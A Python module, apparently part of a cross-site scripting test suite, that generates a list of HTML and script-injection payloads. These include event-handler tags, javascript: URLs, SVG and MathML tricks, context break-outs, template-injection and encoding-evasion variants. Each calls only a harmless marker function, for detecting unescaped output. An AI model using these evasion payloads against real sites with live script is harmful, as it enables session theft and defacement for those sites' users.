"""What would be script if it weren't taken for text: ways to be one, out of places to break out of.

Each runs ``ran(number)`` if a browser takes it for markup, and each element that it makes has the
attribute ``planted``, so that markup shows even where a policy keeps it from running.
"""

from __future__ import annotations

# {run} is the script, {mark} an attribute.
_MARKUP = (
    "<script {mark}>{run}</script>",
    "<SCRIPT {mark}>{run}</SCRIPT >",
    "<scr<script>ipt {mark}>{run}</scr</script>ipt>",
    "<script {mark} src=data:text/javascript,{run}></script>",
    "<script {mark} type=module>{run}</script>",
    "<img {mark} src=x onerror={run}>",
    "<IMG {mark} SRC=x OnErRoR={run}>",
    "<img {mark} src=x\nonerror\n=\n'{run}'>",
    "<img/{mark}/src=x/onerror={run}>",
    "<img {mark} srcset=x onerror='{run}'//>",
    "<image {mark} src=x onerror={run}>",
    "<svg {mark} onload={run}>",
    "<svg {mark}><script>{run}</script></svg>",
    "<svg {mark}><animate attributeName=x dur=1s onbegin={run}></svg>",
    "<svg {mark}><a xlink:href=javascript:{run}><text>文</text></a></svg>",
    "<math {mark}><mtext><img {mark} src=x onerror={run}></mtext></math>",
    "<body {mark} onload={run}>",
    "<details {mark} open ontoggle={run}>文</details>",
    "<input {mark} autofocus onfocus={run}>",
    "<button {mark} autofocus onfocus={run}>文</button>",
    "<video {mark}><source onerror={run}></video>",
    "<video {mark} src=x onerror={run}></video>",
    "<audio {mark} src=x onerror={run}></audio>",
    "<iframe {mark} srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe {mark} src=javascript:parent.{run}></iframe>",
    "<iframe {mark} onload={run}></iframe>",
    "<object {mark} data=javascript:{run}></object>",
    "<embed {mark} src=javascript:{run}>",
    "<a {mark} href=javascript:{run}>文</a>",
    "<a {mark} href='java\tscript:{run}'>文</a>",
    "<a {mark} href=&#106;avascript:{run}>文</a>",
    "<form {mark} action=javascript:{run}><button>文</button></form>",
    "<div {mark} style='background:url(x)' onmouseover={run}>文</div>",
    "<style {mark} onload={run}></style>",
    "<link {mark} rel=stylesheet href=x onerror={run}>",
    "<meta {mark} http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base {mark} href='javascript:{run}//'>",
    "<marquee {mark} onstart={run}>文</marquee>",
    "<noscript><p title='</noscript><img {mark} src=x onerror={run}>'>",
    "<template><img {mark} src=x onerror={run}></template>",
    "<custom-element {mark} tabindex=1 autofocus onfocus={run}>文</custom-element>",
)
_OUT_OF = (
    "{it}",
    '">{it}',
    "'>{it}",
    "</textarea>{it}",
    "</title></style></script>{it}",
    "--><![CDATA[{it}]]>",
)
_OTHERS = (
    "javascript:{run}",
    "[文]({it})",
    "[文](javascript:{run})",
    '![文](x" onerror="{run})',
    "<javascript:{run}>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "\\u003cimg {mark} src=x onerror={run}\\u003e",
    "&lt;img {mark} src=x onerror={run}&gt;",
    "&#60;img {mark} src=x onerror={run}&#62;",
    "＜img {mark} src=x onerror={run}＞",
    "+ADw-img src=x onerror={run}+AD4-",
    "';{run};'",
    '";{run};"',
    "`;{run};`",
    "\u202e<img {mark} src=x onerror={run}>",
)


def _payloads() -> list[str]:
    """Every markup by itself, and every third of them out of each of the other places."""
    # The rest of the third moves with the place: each markup breaks out of two places or more.
    made = list(_MARKUP)
    for shift, place in enumerate(_OUT_OF[1:]):
        made += [place.replace("{it}", markup) for markup in _MARKUP[shift % 3 :: 3]]
    markup = "<img {mark} src=x onerror={run}>"
    plain = (one.replace("{it}", markup).replace("{{", "{").replace("}}", "}") for one in _OTHERS)
    made += plain
    return [
        one.replace("{run}", f"ran({number})").replace("{mark}", "planted")
        for number, one in enumerate(made)
    ]


PAYLOADS = tuple(_payloads())
